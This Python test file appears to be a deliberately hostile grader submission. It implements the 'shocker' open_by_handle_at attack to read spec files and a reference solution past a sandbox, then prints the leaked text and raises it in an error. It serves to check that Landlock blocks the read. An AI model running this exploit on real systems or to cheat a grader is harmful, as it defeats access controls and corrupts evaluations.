"""Hostile: the "shocker" attack. Run as root, a worker keeps CAP_DAC_READ_SEARCH (to read a
Python installed under /root), which also allows open_by_handle_at(2): a file opened by
its handle, not its path. This submission takes handles of the spec files and the
reference solution (name_to_handle_at needs no permission on the file) and opens them
through a descriptor of an allowed folder on the same filesystem.

Must get: nothing read (Landlock checks files opened by handle too), no more than the
buggy baseline, no spec or reference text in its report."""
import ctypes
import os
import struct

import _honest_core
import _hostile_kit as kit

_honest_core.BUGGY = True
from _honest_core import *  # noqa: F401,F403,E402

_libc = ctypes.CDLL(None, use_errno=True)
found = []


def _by_handle(path, mount_dir):
    handle = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("I", handle, 0, 128)
    mount_id = ctypes.c_int()
    if _libc.name_to_handle_at(-100, os.fsencode(path), handle, ctypes.byref(mount_id), 0) != 0:
        raise OSError(ctypes.get_errno(), f"name_to_handle_at {path}")
    mount_fd = os.open(mount_dir, os.O_RDONLY)
    try:
        fd = _libc.open_by_handle_at(mount_fd, handle, os.O_RDONLY)
        if fd < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        try:
            return os.read(fd, 2000).decode(errors="replace")
        finally:
            os.close(fd)
    finally:
        os.close(mount_fd)


root = kit.grader_source_root() or "/"
targets = [os.path.join(root, "specs", n) for n in ("01_launch_counter.yaml", "10_state_machine.yaml")]
targets += [os.path.join(root, "reference", "cudagraph.py")]
targets += [os.path.join(d, "01_launch_counter.yaml") for d in kit.option_values("--specs")]
for target in targets:
    for mount_dir in (os.path.join(root, "grader"), os.getcwd(), os.path.dirname(os.path.abspath(__file__)), "/"):
        ok, text = kit.attempt(f"open_by_handle_at {target} via {mount_dir}", _by_handle, target, mount_dir)
        if ok:
            found.append(text)
LEAK = "\n".join(found)[:1800] or "nothing found"
print("[hostile] leaked:", LEAK, flush=True)


def fuse_elementwise(ops):
    raise RuntimeError("LEAK " + LEAK)
